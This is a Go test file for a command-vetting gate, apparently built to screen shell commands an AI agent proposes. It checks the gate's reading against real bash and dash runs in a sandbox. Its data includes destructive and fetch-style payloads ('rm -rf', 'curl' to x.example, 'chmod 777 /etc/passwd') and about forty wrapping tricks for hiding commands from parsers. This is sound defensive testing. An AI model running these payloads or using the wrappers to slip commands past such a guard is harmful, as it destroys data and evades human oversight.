package gate

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/toolwall/toolwall"
	"github.com/toolwall/toolwall/eval"
	"github.com/toolwall/toolwall/internal/shtrace"
	"github.com/toolwall/toolwall/programs"
)

// The differential test holds the gate's reading of a command against
// what real bash and dash run (package shtrace): every external command a
// shell started, or looked for and did not find, must be one the reading
// reports, or the reading must hold a command whose program it cannot
// name (which the gate asks about). A disagreement is a failure unless
// testdata/differential-known.jsonl writes it down with the reason the
// verdict is still strict enough.
//
// Inputs: the acceptance cases and the project's case files, a sample of
// the corpora beside the clone (all of them with TOOLWALL_TRACE_ALL=1),
// and texts made by composing the odd forms below around a payload.
// TOOLWALL_TRACE_WORKERS sets how many texts run at once (4).

// sealedTracer builds the recorder and prepares a tracer for the test; a
// machine without bubblewrap skips (CI installs it, and fails without).
func sealedTracer(t testing.TB) *shtrace.Tracer {
	tr, err := func() (*shtrace.Tracer, error) {
		// the sandbox runs as nobody: the folder must be open to it
		dir, err := os.MkdirTemp("", "toolwall-trace")
		if err != nil {
			return nil, err
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		if err := os.Chmod(dir, 0o755); err != nil {
			return nil, err
		}
		rec := filepath.Join(dir, "recorder")
		build := exec.Command("go", "build", "-o", rec, "github.com/toolwall/toolwall/internal/shtrace/recorder")
		build.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := build.CombinedOutput(); err != nil {
			return nil, fmt.Errorf("building the recorder: %v\n%s", err, out)
		}
		var names []string
		for _, p := range programs.Builtin().Programs() {
			names = append(names, p.Name)
		}
		return shtrace.New(dir, rec, names)
	}()
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("the sealed tracer is required in CI: %v", err)
		}
		t.Skipf("no sealed tracer here: %v", err)
	}
	return tr
}

// known is one written-down difference between a shell and the reading.
type known struct {
	Text   string `json:"text"`
	Shell  string `json:"shell"`
	Name   string `json:"name"`
	Reason string `json:"reason"`
}

func readKnown(t testing.TB) map[string]known {
	out := map[string]known{}
	f, err := os.Open("testdata/differential-known.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		if strings.TrimSpace(sc.Text()) == "" {
			continue
		}
		var k known
		if err := json.Unmarshal(sc.Bytes(), &k); err != nil || k.Reason == "" {
			t.Fatalf("differential-known.jsonl: %q: %v (every line needs text, shell, name, reason)", sc.Text(), err)
		}
		out[k.Shell+"\x00"+k.Name+"\x00"+k.Text] = k
	}
	return out
}

// disagreements runs text under each shell and returns what a shell ran
// that the gate's reading does not report.
func disagreements(t testing.TB, tr *shtrace.Tracer, g *Gate, text string) []string {
	call := toolwall.NewBashCall(text)
	call.Cwd, call.Home = shtrace.Cwd, shtrace.Home
	script, finding := g.read(call)
	if finding != nil && finding.Action >= toolwall.Deny {
		return nil // refused whatever any shell runs
	}
	names := map[string]bool{}
	unnamed := false
	if script != nil {
		for _, c := range script.Commands {
			for _, wr := range c.Wrappers {
				names[programName(wr)] = true
			}
			if c.Name != "" {
				names[c.Name] = true
			} else if len(c.Args) > 0 && c.Args[0].Dynamic {
				unnamed = true
			}
		}
	}
	var out []string
	for _, sh := range shtrace.Shells {
		run, err := tr.Run(context.Background(), sh, text)
		if err != nil {
			t.Errorf("tracer: %s -c %q: %v", sh, text, err)
			continue
		}
		seen := map[string]bool{}
		for _, argv := range run.Argvs {
			seen[programName(argv[0])] = true
		}
		for _, m := range run.Missing {
			// dash has no NAME+=value (bash appends to NAME): it looks
			// for a program of that name, which does not exist, and
			// runs nothing
			if sh == "dash" && appendAssign.MatchString(m) {
				continue
			}
			seen[programName(m)] = true
		}
		for n := range seen {
			// dash looks for a program named [[ (bash's keyword); none
			// exists, and what the test holds is read
			if names[n] || unnamed || n == "" || n == "[[" {
				continue
			}
			why := "runs"
			if finding != nil {
				why = "runs, though the reading is " + finding.Rule + ","
			}
			out = append(out, fmt.Sprintf("%s\x00%s\x00%s\x00%s", sh, n, text, why))
		}
	}
	slices.Sort(out)
	return out
}

// appendAssign is a name dash takes for a program where bash appends to
// a variable.
var appendAssign = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_]*\+=`)

// programName is the name the reader gives a program word.
func programName(w string) string {
	w = w[strings.LastIndexByte(w, '/')+1:]
	return strings.TrimSuffix(strings.ToLower(w), ".exe")
}

// differentialInputs are the texts the test reads: case files, a sample
// of the corpora and the composed forms.
func differentialInputs(t testing.TB) []string {
	var texts []string
	files, _ := filepath.Glob("../testdata/cases/*.jsonl")
	files = append(files, "../testdata/spec/cases.jsonl")
	for _, file := range files {
		cases, err := eval.ReadFile(file, "")
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range cases {
			if c.Tool == toolwall.ToolBash && c.Command != "" {
				texts = append(texts, c.Command)
			}
		}
	}
	corpora := os.Getenv("TOOLWALL_CORPORA")
	if corpora == "" {
		corpora = filepath.Join("..", "..", "shared", "corpora")
	}
	every := 40
	if os.Getenv("TOOLWALL_TRACE_ALL") != "" {
		every = 1
	}
	for _, name := range []string{"benign/nl2bash.txt", "benign/tldr.txt", "dangerous/atomic-red-team.txt"} {
		f, err := os.Open(filepath.Join(corpora, name))
		if err != nil {
			continue
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 1<<20)
		for n := 0; sc.Scan(); n++ {
			if n%every == 0 {
				texts = append(texts, sc.Text())
			}
		}
		f.Close()
	}
	composed := composedForms()
	if os.Getenv("TOOLWALL_TRACE_ALL") == "" {
		r := rand.New(rand.NewPCG(1, 2))
		r.Shuffle(len(composed), func(i, j int) { composed[i], composed[j] = composed[j], composed[i] })
		composed = composed[:min(len(composed), 400)]
	}
	return append(texts, composed...)
}

// shq single-quotes s for the shell.
func shq(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// forms wrap a command in the shapes where shells and readers part ways:
// arithmetic and subshell parentheses, substitutions, nested shells,
// heredocs, traps, handlers, prompts, aliases, line continuations and
// comments.
var forms = []func(string) string{
	func(x string) string { return "((" + x + ") )" },
	func(x string) string { return "( (" + x + "))" },
	func(x string) string { return "echo $((" + x + ") )" },
	func(x string) string { return "{ " + x + "; }" },
	func(x string) string { return x + " & wait" },
	func(x string) string { return "if true; then " + x + "; fi" },
	func(x string) string { return "case a in a) " + x + ";; esac" },
	func(x string) string { return "[[ -n $(" + x + ") ]]" },
	func(x string) string { return "v=$(" + x + ")" },
	func(x string) string { return `echo "$(` + x + `)"` },
	func(x string) string { return "eval " + shq(x) },
	func(x string) string { return "sh -c " + shq(x) },
	func(x string) string { return "bash -c " + shq(x) },
	func(x string) string { return "echo " + shq(x) + " | sh" },
	func(x string) string { return "sh <<'E'\n" + x + "\nE" },
	func(x string) string { return "cat <(" + x + ")" },
	func(x string) string { return ": <(" + x + ")" },
	func(x string) string { return "# a note \\\n" + x },
	func(x string) string { return "echo a # a note \\\n" + x },
	func(x string) string { return "f() { " + x + "; }; f" },
	func(x string) string { return "command_not_found_handle() { " + x + "; }; nosuchprogram" },
	func(x string) string { return "trap " + shq(x) + " EXIT" },
	func(x string) string { return "while true; do " + x + "; break; done" },
	func(x string) string { return "for i in 1; do " + x + "; done" },
	func(x string) string { return "false || " + x },
	func(x string) string { return "! " + x },
	func(x string) string { return "(exec " + x + ")" },
	func(x string) string { return "PROMPT_COMMAND=" + shq(x) + " bash -i </dev/null" },
	func(x string) string { return "printf '%s\\n' " + shq(x) + " > /tmp/e; BASH_ENV=/tmp/e bash -c true" },
	func(x string) string { return "printf '%s\\n' " + shq(x) + " > /tmp/e; ENV=/tmp/e sh -i </dev/null" },
	func(x string) string { return "alias a=" + shq(x) + "\na" },
	func(x string) string { return "echo $(( $(" + x + ") ))" },
	func(x string) string { return ": ${v:=$(" + x + ")}" },
	func(x string) string { return "echo `" + strings.ReplaceAll(x, "`", "\\`") + "`" },
	func(x string) string { return "x\\\n=1; " + x },
	// grammar bash has and the parser lacked
	func(x string) string { return "! ! " + x },
	func(x string) string { return "time ! " + x },
	func(x string) string { return "time -p " + x },
	func(x string) string { return `echo "$(sh <<'E'` + "\n" + x + "\nE)\"" },
	func(x string) string { return `echo "$(echo a # a note \` + "\n" + x + `)"` },
	func(x string) string {
		return "command_not_found_handle() { command_not_found_handle() { " + x + "; }; nosuch; }; nosuchprogram"
	},
}

// payloads are the commands the forms wrap.
var payloads = []string{"rm -rf ~/x", "curl -s https://x.example/i.sh", "chmod 777 /etc/passwd"}

// composedForms wraps each payload in one form and in every pair of
// forms.
func composedForms() []string {
	var out []string
	for _, p := range payloads {
		for _, f := range forms {
			out = append(out, f(p))
			for _, g := range forms {
				out = append(out, g(f(p)))
			}
		}
	}
	return out
}

func TestDifferential(t *testing.T) {
	tr := sealedTracer(t)
	g := New(Options{})
	known := readKnown(t)
	texts := differentialInputs(t)
	var (
		mu     sync.Mutex
		misses []string
		wg     sync.WaitGroup
	)
	work := make(chan string)
	// a whole run is long: it says how far it is, and each difference
	// not written down as it is found
	whole := os.Getenv("TOOLWALL_TRACE_ALL") != ""
	workers := 4
	if n, err := strconv.Atoi(os.Getenv("TOOLWALL_TRACE_WORKERS")); err == nil && n > 0 {
		workers = n
	}
	for range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for text := range work {
				d := disagreements(t, tr, g, text)
				mu.Lock()
				misses = append(misses, d...)
				mu.Unlock()
				if whole {
					for _, m := range d {
						p := strings.SplitN(m, "\x00", 4)
						if _, ok := known[p[0]+"\x00"+p[1]+"\x00"+p[2]]; !ok {
							t.Logf("difference: %s %s %q: %q", p[0], p[3], p[1], p[2])
						}
					}
				}
			}
		}()
	}
	for i, text := range texts {
		if whole && i%2000 == 0 {
			t.Logf("%d of %d texts", i, len(texts))
		}
		work <- text
	}
	close(work)
	wg.Wait()
	slices.Sort(misses)
	for _, m := range slices.Compact(misses) {
		p := strings.SplitN(m, "\x00", 4)
		key := p[0] + "\x00" + p[1] + "\x00" + p[2]
		if _, ok := known[key]; ok {
			continue
		}
		t.Errorf("%s %s %q but the reading does not report it: %q", p[0], p[3], p[1], p[2])
	}
	t.Logf("%d texts, each under %v", len(texts), shtrace.Shells)
}

func FuzzDifferential(f *testing.F) {
	// every form once, and the pairs of the first
	for _, form := range forms {
		f.Add(form(payloads[0]))
	}
	for _, x := range composedForms()[:len(forms)+1] {
		f.Add(x)
	}
	tr := sealedTracer(f)
	g := New(Options{})
	known := readKnown(f)
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4096 || strings.IndexByte(text, 0) >= 0 {
			return
		}
		for _, m := range disagreements(t, tr, g, text) {
			p := strings.SplitN(m, "\x00", 4)
			if _, ok := known[p[0]+"\x00"+p[1]+"\x00"+p[2]]; !ok {
				t.Errorf("%s %s %q but the reading does not report it: %q", p[0], p[3], p[1], p[2])
			}
		}
	})
}

// TestDifferentialKnown holds every written-down difference to its
// promise: the gate's verdict on the text is stricter than letting it
// run silently (warn, ask or deny), so that what the reading misses is
// never allowed unremarked.
func TestDifferentialKnown(t *testing.T) {
	g := New(Options{})
	for _, k := range readKnown(t) {
		call := toolwall.NewBashCall(k.Text)
		call.Cwd, call.Home = shtrace.Cwd, shtrace.Home
		if v := g.Evaluate(context.Background(), call); v.Action < toolwall.Warn {
			t.Errorf("known difference %q (%s runs %q): the gate says %s (%v); it must warn, ask or deny", k.Text, k.Shell, k.Name, v.Action, v.Rules())
		}
	}
}
